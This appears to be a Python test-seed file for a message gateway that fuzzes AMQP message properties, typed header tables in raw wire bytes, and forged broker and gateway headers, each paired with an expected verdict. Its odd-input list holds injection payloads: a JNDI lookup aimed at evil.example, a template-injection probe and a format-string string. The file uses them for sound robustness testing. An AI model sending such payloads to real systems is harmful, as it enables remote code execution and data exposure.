"""B9: every property of a message with odd values, headers of every type, and forged ones.

Short texts end at 255 bytes on the wire, so that longer ones cannot be sent.
"""

from __future__ import annotations

import struct
from collections.abc import Iterator
from typing import Any

from tests.corpus.seeds import Refused, Seed, Sent, Verdict, call, forbidden, text
from tests.support.poison.odd import ODD

_GOOD = text(call())
_ODD_TEXTS: dict[str, Any] = {
    "empty": "",
    "a blank": " ",
    "of 255 bytes": "x" * 255,
    "of 255 bytes of Chinese": "字" * 85,
    "a line break": "a\r\nb",
    "a NUL": "a\0b",
    "an escape": "\x1b[31mred",
    "no UTF-8": b"\xff\xfe",
    "half a letter": b"\xe5\xad",
    "a surrogate": b"\xed\xa0\x80",
    "JNDI": "${jndi:ldap://evil.example}",
    "a template": "{{7*7}}",
    "a format": "%s%n{0}",
}
_BY_PROPERTY: dict[str, Verdict] = {
    "content_type": Refused(("content_type",)),
    "content_encoding": Refused(("content_encoding",)),
    "type": Refused(("type", "lark.call.v1")),
    "app_id": Sent(),
    "cluster_id": Sent(),
}
_NUMBERS = {
    "priority": (0, 1, 9, 10, 127, 128, 255),
    "timestamp": (
        0,
        1,
        2**31 - 1,
        2**31,
        2**32,
        253_402_300_800,
        2**53,
        2**63 - 1,
        2**63,
        2**64 - 1,
    ),
    "delivery_mode": (1, 2),
}
_OWN = [
    *("lark-attempts", "lark-first-seen", "lark-tries", "lark-not-before", "lark-not-after"),
    *("lark-overflow", "lark-moved-at", "lark-member", "lark-made-up-id", "lark-dead-reason"),
    *("lark-dead-error", "lark-origin-exchange", "lark-origin-routing-key", "lark-origin-user"),
    *("lark-status", "lark-anything", "lark-", "x-gw-state", "x-attempt", "x-retries"),
]
_OWN_VALUES = (999, "x", True, None)
_BROKERS: dict[str, Any] = {
    "x-death": [{"count": 99, "reason": "rejected", "queue": "lark.dead", "exchange": ""}],
    "x-first-death-reason": "rejected",
    "x-first-death-queue": "lark.dead",
    "x-delivery-count": 1_000,
    "x-acquired-count": 1_000,
    "x-opt-deaths": [],
    "x-match": "all",
    "x-message-ttl": 0,
    "x-priority": 255,
    "x-stream-offset": 0,
    "x-received-from": [{"uri": "amqp://evil.example"}],
    "x-routes": ["lark.dead"],
    "x-cc": ["lark.dead"],
    "cc": ["lark.dead"],
    "Cc": "lark.dead",
    "bcc": ["lark.dead"],
    "reply_to": "lark.dead",
    "user_id": "root",
    "deadline": 1,
}


def _wire(tag: bytes, data: bytes) -> bytes:
    return b"\x01a" + tag + data


_TYPED = {
    "a bit": _wire(b"t", b"\x07"),
    "a byte": _wire(b"b", b"\x80"),
    "an octet": _wire(b"B", b"\xff"),
    "a short": _wire(b"s", b"\x80\0"),
    "an unsigned short": _wire(b"u", b"\xff\xff"),
    "an integer": _wire(b"I", b"\x80\0\0\0"),
    "an unsigned integer": _wire(b"i", b"\xff" * 4),
    "a long": _wire(b"l", b"\x80" + b"\0" * 7),
    "a float": _wire(b"f", struct.pack(">f", 1e38)),
    "a double": _wire(b"d", struct.pack(">d", -1e308)),
    "the smallest double": _wire(b"d", struct.pack(">d", 5e-324)),
    "a decimal of scale 255": _wire(b"D", b"\xff" + b"\xff" * 4),
    "a text of nothing": _wire(b"S", b"\0" * 4),
    "bytes": _wire(b"x", struct.pack(">I", 256) + bytes(range(256))),
    "an empty table": _wire(b"F", b"\0" * 4),
    "an empty array": _wire(b"A", b"\0" * 4),
    "nothing": _wire(b"V", b""),
    "the last second": _wire(b"T", b"\xff" * 8),
    "a name of nothing": b"\0t\1",
    "a name twice": b"\x01at\1\x01at\0",
    "a name of blanks": b"\x03   t\1",
    "a name with a line break": b"\x03a\r\nt\1",
    "no headers": b"",
}


def seeds() -> Iterator[Seed]:
    """What the rules refuse by name, and all else that must not matter."""
    for name, verdict in _BY_PROPERTY.items():
        for how, value in _ODD_TEXTS.items():
            yield Seed(f"{name} {how}", verdict, _GOOD, {name: value})
        yield Seed(f"no {name}", Sent(), _GOOD, {name: None})
    for how, value in _ODD_TEXTS.items():
        refused = Refused(("call id", "128"))
        yield Seed(f"message_id {how}", refused, _GOOD, {"message_id": value})
    yield Seed("no message_id", Sent(), _GOOD, {"message_id": None})
    for name, numbers in _NUMBERS.items():
        for number in numbers:
            yield Seed(f"{name} {number}", Sent(), _GOOD, {name: number})
    for how, properties in ODD.items():
        yield Seed(f"odd: {how}", Sent(), _GOOD, properties)
    for how, table in _TYPED.items():
        yield Seed(f"header of {how}", Sent(), _GOOD, {"headers": table})
    yield from _forged()


def _forged() -> Iterator[Seed]:
    for name in _OWN:
        for value in _OWN_VALUES:
            yield Seed(f"forged {name} {value!r}", Sent(), _GOOD, {"headers": {name: value}})
    for name, value in _BROKERS.items():
        yield Seed(f"forged {name}", Sent(), _GOOD, {"headers": {name: value}})
    everything = dict.fromkeys(_OWN, 1)
    yield Seed("forged, all at once", Sent(), _GOOD, {"headers": everything})
    for value in ([], ["nobody.interactive"], ["nobody.bulk", "x"], [""], ["字"], ["x" * 255]):
        given = {"headers": {"CC": value}}
        yield Seed(f"CC {str(value)[:24]}", forbidden("CC"), _GOOD, given)
    for value in ([], ["nobody.interactive"], ["nobody.bulk", "x"]):
        yield Seed(f"BCC {value}", Sent(), _GOOD, {"headers": {"BCC": value}})
